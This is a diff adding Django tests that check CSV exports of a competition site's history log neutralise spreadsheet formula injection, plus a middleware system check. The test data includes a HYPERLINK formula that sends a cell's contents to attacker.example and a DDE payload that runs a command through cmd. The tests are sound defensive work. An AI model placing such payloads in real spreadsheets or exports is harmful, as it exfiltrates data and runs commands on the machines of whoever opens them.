@@ -169,3 +169,43 @@ def test_existing_entries_move_to_the_competitions_log(world):
 
     assert list(CompetitionLogEntry.objects.order_by("pk").values_list(*migration.FIELDS)) == ours
     assert list(ModelLogEntry.objects.values_list("pk", flat=True)) == [user_entry.pk]
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+
+
+def test_no_cell_of_the_site_history_csv_is_a_formula(client, world):
+    import csv
+
+    from competition.spreadsheets import FORMULA_STARTS
+
+    agency = AgencyFactory(code="EVIL", name=FORMULA)
+    log(agency, "wagtail.create", user=world["root"])
+    world["root"].first_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    world["root"].save()
+    log(agency, "wagtail.edit", user=world["root"])
+    client.force_login(world["root"])
+
+    text = export(client, "csv")
+
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert f"'{FORMULA} (EVIL)" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
+    # The XLSX export keeps such cells as text, as they were entered (Wagtail does).
+    assert f"{FORMULA} (EVIL)" in export(client, "xlsx")
+
+
+def test_the_system_check_asks_for_the_export_middleware(settings):
+    from competition.checks import check_evidence_download_middleware
+
+    assert check_evidence_download_middleware(None) == []
+    settings.MIDDLEWARE = [m for m in settings.MIDDLEWARE if not m.endswith("SpreadsheetExportMiddleware")]
+    assert [warning.id for warning in check_evidence_download_middleware(None)] == ["competition.W002"]
+
+
+def test_csv_rows_split_across_chunks_are_neutralised_whole():
+    from competition.spreadsheets import neutralise_csv
+
+    chunks = ["id,=name\r\n", '1,"=multi\n', 'line",-2\r\n', b"2,@x\r\n", "3,+tail"]
+
+    assert b"".join(neutralise_csv(chunks)).decode() == ("id,'=name\r\n1,\"'=multi\nline\",-2\r\n2,'@x\r\n3,'+tail\r\n")
